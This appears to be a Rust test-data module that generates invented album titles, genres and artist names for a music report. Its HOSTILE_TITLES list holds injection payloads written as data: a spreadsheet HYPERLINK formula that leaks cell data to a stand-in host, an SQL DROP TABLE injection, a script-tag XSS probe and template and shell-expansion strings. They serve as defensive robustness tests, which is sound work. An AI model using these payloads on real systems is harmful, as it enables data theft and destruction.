//! Invented names: ordinary ones, and those that break careless programs.

use rand::Rng;
use rand::RngExt as _;
use rand::seq::IndexedRandom as _;

/// Genres of invented albums. The known albums bring a few more.
pub const GENRES: [&str; 28] = [
    "Ambient",
    "Blues",
    "Bossa Nova",
    "Chamber Pop",
    "Classical",
    "Country",
    "Disco",
    "Drum & Bass",
    "Dub",
    "Electronic",
    "Fado",
    "Folk",
    "Funk",
    "Gospel",
    "Hip-Hop",
    "House",
    "Jazz",
    "K-Pop",
    "Metal",
    "MPB",
    "Pop",
    "Punk",
    "R&B",
    "Reggae",
    "Rock",
    "Soul",
    "Techno",
    "演歌",
];

const ADJECTIVES: [&str; 24] = [
    "Amber", "Broken", "Crooked", "Distant", "Electric", "Faded", "Golden", "Hollow", "Hidden", "Last",
    "Lonely", "Midnight", "Northern", "Pale", "Quiet", "Restless", "Second", "Silver", "Slow", "Sudden",
    "Velvet", "Waking", "Wild", "Winter",
];
const NOUNS: [&str; 32] = [
    "Arcade",
    "Atlas",
    "Avenue",
    "Bridges",
    "Cathedral",
    "Choir",
    "Coast",
    "Dreams",
    "Engines",
    "Fields",
    "Fires",
    "Garden",
    "Harbour",
    "Heart",
    "Horizon",
    "Hotel",
    "Hours",
    "Letters",
    "Lights",
    "Machines",
    "Mirrors",
    "Ocean",
    "Orchard",
    "Parade",
    "Radio",
    "Rivers",
    "Season",
    "Signal",
    "Stations",
    "Summer",
    "Thunder",
    "Weather",
];
const GIVEN: [&str; 24] = [
    "Ada",
    "Amara",
    "Björn",
    "Chiyo",
    "Clémence",
    "Dmitri",
    "Elif",
    "Esperanza",
    "Gráinne",
    "Henrik",
    "Ines",
    "Jun",
    "Kofi",
    "Léa",
    "Lucía",
    "Mateus",
    "Nadia",
    "Olu",
    "Priya",
    "Renée",
    "Søren",
    "Tariq",
    "Yuki",
    "Zoë",
];
const FAMILY: [&str; 24] = [
    "Adeyemi",
    "Almeida",
    "Bergström",
    "Castellanos",
    "D'Angelo",
    "Dvořák",
    "Eriksen",
    "Fontaine",
    "Güneş",
    "Hawthorne",
    "Ibáñez",
    "Jansen",
    "Kowalczyk",
    "Lindqvist",
    "Moreau",
    "Nakamura",
    "O'Connell",
    "Petrov",
    "Quiñones",
    "Rossi",
    "Szabó",
    "Tanaka",
    "Weiß",
    "Yıldız",
];

/// Titles that a report must carry unharmed: separators, quotes, line ends, formulas as a spreadsheet
/// sees them, other scripts and directions, signs outside the basic plane, and words that mean something
/// to COPY, SQL, HTML or a shell.
pub const HOSTILE_TITLES: [&str; 44] = [
    "=1+1",
    "=HYPERLINK(\"https://example.invalid/?leak=\"&A1,\"Click me\")",
    "+44 (Calling)",
    "-273.15 °C",
    "@home",
    "\tTabbed In",
    "  =SUM(A1:A9)",
    "\u{a0}=1+1 behind a no-break space",
    "\r=1+1 behind a return",
    "\n+1 behind a line feed",
    "＝1＋1",
    "＋81",
    "－40",
    "＠mosphere",
    "'Already Quoted",
    "\"Quoted\", and Comma",
    "\"",
    "\"\"",
    "Comma, Comma; Semicolon",
    "Two\nLines",
    "Two\r\nWindows Lines",
    "Trailing Space ",
    "Back\\slash\\",
    "\\.",
    "\\N",
    "NULL",
    "%s %d %n",
    "'); DROP TABLE ratings; --",
    "$1 and ${HOME}",
    "<script>alert(1)</script> & Friends",
    "{{7*7}}",
    "雨の降る夜",
    "두 번째 여름",
    "Песни о море",
    "موسيقى الليل",
    "שירים לערב",
    "เพลงฝน",
    "Ηχώ της θάλασσας",
    "बारिश के गीत",
    "🎸🔥 Live 🔥🎸",
    "👩‍👩‍👧‍👦 Family",
    "𝄞 Clef",
    "e\u{301}toile (decomposed)",
    "\u{feff}Marked",
];

/// An ordinary album title.
pub fn title(random: &mut impl Rng) -> String {
    let adjective = pick(random, &ADJECTIVES);
    let noun = pick(random, &NOUNS);
    match random.random_range(0..8) {
        0 => format!("The {adjective} {noun}"),
        1 => format!("{noun} of {}", pick(random, &NOUNS)),
        2 => format!("{adjective} {noun}, Vol. {}", random.random_range(1..5)),
        3 => noun.to_owned(),
        4 => format!("{adjective} {noun} (Deluxe Edition)"),
        5 => format!("{noun} & {}", pick(random, &NOUNS)),
        _ => format!("{adjective} {noun}"),
    }
}

/// An artist's or band's name.
pub fn artist(random: &mut impl Rng) -> String {
    match random.random_range(0..4) {
        0 => format!("The {} {}", pick(random, &ADJECTIVES), pick(random, &NOUNS)),
        1 => format!("{} {} Trio", pick(random, &GIVEN), pick(random, &FAMILY)),
        _ => format!("{} {}", pick(random, &GIVEN), pick(random, &FAMILY)),
    }
}

fn pick<'a>(random: &mut impl Rng, words: &[&'a str]) -> &'a str {
    words.choose(random).copied().unwrap_or_default()
}
